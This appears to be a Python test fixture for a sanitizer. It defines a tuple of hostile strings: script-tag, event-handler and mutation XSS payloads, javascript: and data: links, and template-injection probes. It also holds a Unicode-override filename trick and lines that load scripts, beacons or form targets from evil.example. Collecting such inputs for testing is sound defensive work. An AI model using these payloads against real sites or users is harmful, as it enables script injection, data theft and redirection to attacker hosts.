"""Texts that try to become more than text."""

from __future__ import annotations

from typing import Final

HOSTILE: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<a href="javascript:alert(1)">a</a>',
    "<a href='java\tscript:alert(1)'>a</a>",
    "[a](javascript:alert(1))",
    "[a](//evil.example/x)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](https://evil.example/beacon.png)",
    '<a href="//evil.example">a</a>',
    '<a href="https://a.example" onclick="alert(1)" style="position:fixed">a</a>',
    '<p style="background:url(https://evil.example)">a</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=a></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "{{ 7 * 7 }}{% for x in y %}",
    "\ue000" + "0\ue001\ue0021\ue003",
    "\u202egnp.exe\u202c",
    "<details open ontoggle=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "-->" + "<script>alert(1)</script>",
    "(Citation: <img src=x onerror=alert(1)>)",
    "<code><img src=x onerror=alert(1)></code>",
    "`<img src=x onerror=alert(1)>`",
    "<xhtml:script>alert(1)</xhtml:script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    '<table><td background="javascript:alert(1)">',
)
